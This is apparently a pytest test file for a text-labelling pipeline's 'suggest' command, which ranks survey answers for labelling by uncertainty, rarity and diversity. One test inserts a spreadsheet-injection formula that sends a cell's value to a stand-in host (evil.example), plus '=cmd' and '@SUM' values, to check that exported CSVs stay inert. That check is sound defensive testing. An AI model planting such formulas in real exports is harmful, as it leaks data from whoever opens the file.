"""`behaviours labelled suggest` (issue 15): texts worth labelling next, pre-labelled, with reasons; never a labelled one.

The command runs on the tiny model (stand-in hashing encoder); the selection itself
(`pipeline.batch.suggest.choose`) is tested on readings made by hand.
"""

import csv
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import yaml
from helpers import tiny_rows, write_labelled_csv

from pipeline.batch.suggest import LabelCounts, Readings, choose, cross_validated_f1, deficit_weights
from pipeline.data.tools.suggestions import SUGGESTION_COLUMNS
from pipeline.config import SuggestParams
from pipeline.data.labelled_texts import labelled_text_keys
from pipeline.data.rows import COLUMNS, text_key
from pipeline.io.files import FORMULA_STARTS
from pipeline.model.folder import load_model
from pipeline.tagger import Tagger
from pipeline.taxonomy import load_taxonomy

NEW_TEXTS = [
    "She explains the reasons behind decisions and admits her own mistakes.",
    "Nobody explained why the clinic was closing and nobody knows where we are heading.",
    "Coaches the team and delegates real decisions to staff.",
    "The car park is full again.",
    "Built relationships with the council and the GP practices.",
    "Piloted a new way of running the clinic with creative ideas.",
    "Passes the buck when things go wrong.",
    "Worked jointly with patients to design the pathway together.",
    "Spoke up to the board about unsafe staffing.",
    "Represents us at the ICS system board.",
]
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture()
def params_file(tmp_path):
    path = tmp_path / "params.yaml"
    raw = {"encoder": {"backend": "hashing", "model": "", "dim": 512}, "text": {"sentences": "sentencizer"}}
    path.write_text(yaml.safe_dump(raw))
    return path


def _export(path: Path, texts: list[str], register: str | None = None) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["response_id", "answer"] + (["register"] if register else []))
        for i, text in enumerate(texts, 1):
            writer.writerow([f"R{i}", text] + ([register] if register else []))
    return path


def _suggest(run_cli, export, output, labelled, params_file, model_dir, *extra):
    return run_cli(
        "labelled", "suggest", export, "-o", output, "--labelled", labelled, "--params", params_file,
        "--model", model_dir, "-c", "answer", "--id-column", "response_id", *extra,
    )


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_picks_carry_reasons_and_the_models_pre_labels(run_cli, tmp_path, labelled, params_file, model_dir, taxonomy):
    export, output = _export(tmp_path / "export.csv", NEW_TEXTS), tmp_path / "to_label.csv"
    code, out, err = _suggest(run_cli, export, output, labelled, params_file, model_dir, "-n", "6", "--register", "exit_survey")
    assert code == 0, err
    rows = _rows(output)
    assert len(rows) == 6 and tuple(rows[0]) == SUGGESTION_COLUMNS and SUGGESTION_COLUMNS[:6] == COLUMNS
    assert all(r["reason"].strip() for r in rows)
    assert all(r["id"].startswith("suggested-export-R") for r in rows) and len({r["id"] for r in rows}) == 6
    assert {r["register"] for r in rows} == {"exit_survey"} and {r["source"] for r in rows} == {"suggested:export"}
    tagger = Tagger(load_model(model_dir, taxonomy.ids))
    for row, result in zip(rows, tagger.tag([r["text"] for r in rows])):
        assert row["labels"] == ";".join(result.behaviours)
        assert row["polarity"] == ";".join("+" if b in result.strengths else "-" for b in result.behaviours)
    assert any(r["labels"] for r in rows)
    assert "6 of 10 candidate texts suggested" in " ".join(out.split())


def test_labelled_and_test_set_texts_are_never_suggested(run_cli, tmp_path, labelled, params_file, model_dir):
    tiny = tiny_rows()
    pool_text, pair_text = "Listens to every nurse before deciding the rota.", "Thanks the porters by name every morning."
    batch = labelled / "pool" / "batches" / "b01"
    batch.mkdir(parents=True)
    with open(batch / "writer.csv", "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["id", "text", "register", "source", "voice", "labels", "polarity"],
                                      ["p-1", pool_text, "exit_survey", "authored:x", "v", "", ""]])
    (labelled / "pairs").mkdir()
    with open(labelled / "pairs" / "pairs.csv", "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["pair_id", "text_a", "text_z"], ["c-1", "Something else.", pair_text]])
    test_text = tiny[0].text  # t-001, in the test split
    seen = [f"  {test_text.upper()} ", tiny[20].text, pool_text.lower(), pair_text, "", "n/a"]
    export = _export(tmp_path / "export.csv", seen + NEW_TEXTS[:3])
    code, out, err = _suggest(
        run_cli, export, tmp_path / "out.csv", labelled, params_file, model_dir, "-n", "50", "--register", "exit_survey"
    )
    assert code == 0, err
    suggested = {text_key(r["text"]) for r in _rows(tmp_path / "out.csv")}
    assert suggested == {text_key(t) for t in NEW_TEXTS[:3]}
    assert "2 empty, 4 already labelled" in " ".join(out.split())


def test_every_labelled_file_counts_whatever_its_schema(tmp_path, labelled):
    (labelled / "newwriters").mkdir()
    (labelled / "hedged").mkdir()
    write_labelled_csv(labelled / "newwriters" / "dev.csv", [replace(tiny_rows()[0], text="A new writer's note.")])
    (labelled / "hedged" / "hedged.csv").write_text("\ufeffid,text,labels,polarity,register,source\nh-1,Seems  to LISTEN.,,,exit_survey,x\n")
    keys = labelled_text_keys(labelled)
    assert {text_key(r.text) for r in tiny_rows()} | {"a new writer's note.", "seems to listen."} <= keys


def test_more_asked_than_there_are_candidates_gives_them_all(run_cli, tmp_path, labelled, params_file, model_dir):
    export = _export(tmp_path / "export.csv", NEW_TEXTS[:4] + [NEW_TEXTS[0].lower()], register="feedback_360")
    code, out, err = _suggest(run_cli, export, tmp_path / "out.csv", labelled, params_file, model_dir, "-n", "1000")
    assert code == 0, err
    rows = _rows(tmp_path / "out.csv")
    assert len(rows) == 4 and {r["register"] for r in rows} == {"feedback_360"}  # the repeated text once
    assert "1 repeated" in out


def _readings(probabilities, vectors, gate=None, sentences=None, f1=None) -> Readings:
    probabilities = np.asarray(probabilities, dtype=np.float32)
    vectors = np.asarray(vectors, dtype=np.float32)
    return Readings(
        probabilities=probabilities,
        gate=np.full(len(probabilities), 0.99) if gate is None else np.asarray(gate, dtype=np.float32),
        sentences=np.ones(len(probabilities), dtype=int) if sentences is None else np.asarray(sentences),
        vectors=vectors / np.linalg.norm(vectors, axis=1, keepdims=True),
        thresholds=np.full(probabilities.shape[1], 0.5, dtype=np.float32),
        gate_threshold=0.5,
        f1=None if f1 is None else np.asarray(f1),
    )


IDS = ("a", "b")
EVEN = LabelCounts({"a": 100, "b": 100})


def test_no_two_picks_are_near_duplicates():
    rng = np.random.default_rng(0)
    base = rng.normal(size=(5, 32))
    vectors = np.concatenate([base, base + 0.01 * rng.normal(size=base.shape)])  # each text twice, nearly
    probabilities = np.full((10, 2), 0.5)  # all equally undecided
    picks = choose(_readings(probabilities, vectors), EVEN, IDS, 10, SuggestParams(), 0.95)
    assert len(picks) == 5
    chosen = _readings(probabilities, vectors).vectors[[p.index for p in picks]]
    cosines = chosen @ chosen.T
    assert (cosines[~np.eye(5, dtype=bool)] < 0.95).all()


def test_rarity_changes_the_order():
    probabilities = [[0.9, 0.1], [0.1, 0.9]]  # text 0 shows a, text 1 shows b, equally sure
    vectors = [[1.0, 0.0], [0.0, 1.0]]

    def picked(counts):
        return choose(_readings(probabilities, vectors), counts, IDS, 2, SuggestParams(), 0.95)

    rare_a, rare_b = LabelCounts({"a": 5, "b": 100}), LabelCounts({"a": 100, "b": 5})
    assert [p.index for p in picked(rare_a)] == [0, 1] and "rare behaviour a (5 labelled)" in picked(rare_a)[0].reason
    assert [p.index for p in picked(rare_b)] == [1, 0] and "rare behaviour b (5 labelled)" in picked(rare_b)[0].reason
    even = picked(EVEN)
    assert {p.index for p in even} == {0, 1} and even[0].priority == even[1].priority
    assert not any("rare" in p.reason for p in even)


def test_uncertainty_ranks_first_and_is_the_reason():
    probabilities = [[0.95, 0.02], [0.52, 0.02], [0.1, 0.02], [0.52, 0.48]]
    gate = [0.99, 0.99, 0.52, 0.99]
    picks = choose(_readings(probabilities, np.eye(4), gate), EVEN, IDS, 4, SuggestParams(), 0.95)
    by_index = {p.index: p.reason for p in picks}
    # two decisions undecided; the gate undecided (and a at 0.1 a little); one behaviour undecided; nothing undecided
    assert [p.index for p in picks] == [3, 2, 1, 0]
    assert by_index[3] == "near the threshold for a (0.52, threshold 0.50); near the threshold for b (0.48, threshold 0.50)"
    assert by_index[1].startswith("near the threshold for a (0.52, threshold 0.50)")
    assert by_index[2].startswith("undecided whether it shows any behaviour (0.52, threshold 0.50)")
    assert by_index[0].startswith("closest to its threshold for a (0.95")


def test_a_long_text_is_not_worth_more_for_being_long():
    """Uncertainty is per square root of sentences: a note of 16 undecided sentences' worth counts a quarter as much."""
    probabilities = [[0.5, 0.5], [0.5, 0.5]]
    picks = choose(_readings(probabilities, np.eye(2), sentences=[16, 1]), EVEN, IDS, 2, SuggestParams(), 0.95)
    assert [p.index for p in picks] == [1, 0] and picks[1].priority == pytest.approx(picks[0].priority / 4, abs=1e-3)


def test_doubt_about_the_weakest_behaviour_counts_most():
    """With deficit_power, a text undecided on the behaviour of lower cross-validated F1 ranks first."""
    probabilities = [[0.5, 0.01], [0.01, 0.5]]  # text 0 undecided on a, text 1 on b

    def order(f1, power=1.0):
        readings = _readings(probabilities, np.eye(2), f1=f1)
        return [p.index for p in choose(readings, EVEN, IDS, 2, SuggestParams(deficit_power=power), 0.95)]

    assert order([0.4, 0.8]) == [0, 1]
    assert order([0.8, 0.4]) == [1, 0]
    alike = [choose(_readings(probabilities, np.eye(2), f1=f1), EVEN, IDS, 2, SuggestParams(deficit_power=0.0), 0.95)
             for f1 in ([0.4, 0.8], None)]
    assert all(picks[0].priority == picks[1].priority for picks in alike)


def test_gate_weight_counts_the_gates_doubt_as_that_many_behaviours():
    """A behaviour-free text whose gate is undecided against a text undecided on one behaviour: alike at
    gate_weight 1, the gate's ahead at 2, behind at 0.5."""
    probabilities = [[0.01, 0.01], [0.5, 0.01]]
    gate = [0.5, 0.99]

    def picked(weight):
        return choose(_readings(probabilities, np.eye(2), gate), EVEN, IDS, 2, SuggestParams(gate_weight=weight), 0.95)

    alike = picked(1.0)
    assert alike[0].priority == pytest.approx(alike[1].priority, abs=0.02)
    assert [p.index for p in picked(2.0)] == [0, 1] and [p.index for p in picked(0.5)] == [1, 0]


def test_deficit_weights_average_one_and_follow_the_card():
    weights = deficit_weights(np.array([0.4, 0.7, 1.0]), 1.0, 3)
    assert weights.mean() == pytest.approx(1.0) and weights[0] > weights[1] > weights[2] > 0
    assert (deficit_weights(None, 1.0, 3) == 1).all() and (deficit_weights(np.array([0.4, 0.7, 1.0]), 0.0, 3) == 1).all()
    card = {"evaluation": {"training": {"f1_per_behaviour": {"a": 0.4, "b": 0.7}}}}
    assert cross_validated_f1(card, ("a", "b")).tolist() == [0.4, 0.7]
    assert cross_validated_f1(card, ("a", "b", "c")) is None and cross_validated_f1({}, ("a",)) is None


def _mixed(n_each=500, seed=0):
    """Candidates of which the first half sit on a threshold and the second half are clear."""
    rng = np.random.default_rng(seed)
    probabilities = np.vstack([np.full((n_each, 2), 0.5), np.full((n_each, 2), 0.01)])
    return _readings(probabilities, rng.normal(size=(2 * n_each, 64)))


@pytest.mark.parametrize("power, undecided_share", [(0.0, (0.35, 0.65)), (2.0, (0.9, 1.0))])
def test_draws_lean_towards_the_undecided_as_much_as_power_says(power, undecided_share):
    picks = choose(_mixed(), EVEN, IDS, 100, SuggestParams(power=power), 0.95)
    share = np.mean([p.index < 500 for p in picks])
    assert len(picks) == 100 and undecided_share[0] <= share <= undecided_share[1]


def test_the_same_seed_draws_the_same_texts_and_another_seed_others():
    def drawn(seed):
        return [p.index for p in choose(_mixed(), EVEN, IDS, 50, SuggestParams(seed=seed), 0.95)]

    assert drawn(0) == drawn(0)
    assert set(drawn(0)) != set(drawn(1))


@pytest.mark.parametrize(
    "case",
    ["missing text column", "no register", "empty file", "header only", "existing output", "inside labelled", "xlsx output"],
)
def test_bad_input_is_one_line_and_exit_2(run_cli, tmp_path, labelled, params_file, model_dir, case):
    export, output = _export(tmp_path / "export.csv", NEW_TEXTS[:3]), tmp_path / "out.csv"
    options = ["--register", "exit_survey"]
    if case == "missing text column":
        export.write_text("response_id,comment\nR1,She explains the reasons behind decisions.\n")
    elif case == "no register":
        options = []
    elif case == "empty file":
        export.write_text("")
    elif case == "header only":
        export.write_text("response_id,answer\n")
    elif case == "existing output":
        output.write_text("precious work\n")
    elif case == "inside labelled":
        output = labelled / "to_label.csv"
    else:
        output = tmp_path / "out.xlsx"
    code, out, err = _suggest(run_cli, export, output, labelled, params_file, model_dir, *options)
    assert code == 2
    assert err.startswith("error: ") and len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert not any(word in err for word in ("explains", "reasons behind"))  # no answer text in the message
    if case == "existing output":
        assert output.read_text() == "precious work\n"
    elif case != "inside labelled":
        assert not output.exists()
    else:
        assert not (labelled / "to_label.csv").exists()


def test_force_replaces_an_existing_output(run_cli, tmp_path, labelled, params_file, model_dir):
    export, output = _export(tmp_path / "export.csv", NEW_TEXTS[:3]), tmp_path / "out.csv"
    output.write_text("old\n")
    code, _, err = _suggest(run_cli, export, output, labelled, params_file, model_dir, "--register", "exit_survey", "--force")
    assert code == 0, err
    assert len(_rows(output)) == 3


def test_output_csv_has_no_live_formula(run_cli, tmp_path, labelled, params_file, model_dir):
    texts = [LINK + " He explains the reasons behind every rota decision.", "@SUM(A1) Coaches the team and delegates."]
    export = _export(tmp_path / "export.csv", texts)
    code, _, err = _suggest(
        run_cli, export, tmp_path / "out.csv", labelled, params_file, model_dir, "--register", "exit_survey",
        "--id-prefix", "=cmd", "-n", "5",
    )
    assert code == 0, err
    rows = _rows(tmp_path / "out.csv")
    assert len(rows) == 2
    for row in rows:
        for column, value in row.items():
            if column == "polarity":  # only + - ; : the labelled schema, nothing a formula can hide in
                assert set(value) <= {"+", "-", ";"}
            else:
                assert not value.startswith(FORMULA_STARTS) or value == "-"
    assert {r["text"] for r in rows} == {"'" + t for t in texts} and all(r["id"].startswith("'=cmd-") for r in rows)


@pytest.mark.integration
def test_suggest_on_the_bundled_example_export(run_cli, tmp_path):
    """The real model on examples/exit_survey_export_cp1252.csv: reasons and pre-labels with polarity."""
    project = Path(__file__).resolve().parents[2]
    output = tmp_path / "to_label.csv"
    code, out, err = run_cli(
        "labelled", "suggest", project / "examples" / "exit_survey_export_cp1252.csv", "-n", "20", "-o", output,
        "-c", "leaving_reason", "-c", "could_do_better", "--id-column", "response_id", "--register", "exit_survey",
        "--labelled", project / "labelled", "--params", project / "configs" / "params.yaml",
        "--model", project / "models" / "default",
    )
    assert code == 0, err
    rows = _rows(output)
    assert len(rows) == 20 and all(r["reason"] for r in rows)
    assert any(r["labels"] for r in rows)
    ids = set(load_taxonomy().ids)
    for row in rows:
        labels, polarity = [p for p in row["labels"].split(";") if p], [p for p in row["polarity"].split(";") if p]
        assert set(labels) <= ids and len(labels) == len(polarity) and set(polarity) <= {"+", "-"}
    assert all(r["id"].startswith("suggested-exit_survey_export_cp1252-EX-") for r in rows)
    labelled = labelled_text_keys(project / "labelled")
    assert not any(text_key(r["text"]) in labelled for r in rows)


def test_suggestions_come_back_through_labelled_add_as_they_went(run_cli, tmp_path, labelled, params_file, model_dir):
    """suggest → a person keeps the pre-labels → `labelled add`: the texts arrive unchanged, the apostrophe that
    kept a formula-like answer inert in the CSV taken off again, and a text that began with one kept."""
    texts = ["- never listened to the band 5s about the rota.", "'Tis the season: she thanked every porter by name.",
             "=1+1 is how he does the staffing maths: explains every decision."]
    export, output = _export(tmp_path / "export.csv", texts), tmp_path / "to_label.csv"
    code, _, err = _suggest(run_cli, export, output, labelled, params_file, model_dir, "--register", "exit_survey")
    assert code == 0, err
    code, out, err = run_cli("labelled", "add", output, "--labelled", labelled)
    assert code == 0, err
    with open(labelled / "added.csv", newline="", encoding="utf-8") as handle:
        added = {row["text"] for row in csv.DictReader(handle)}
    assert added == set(texts)
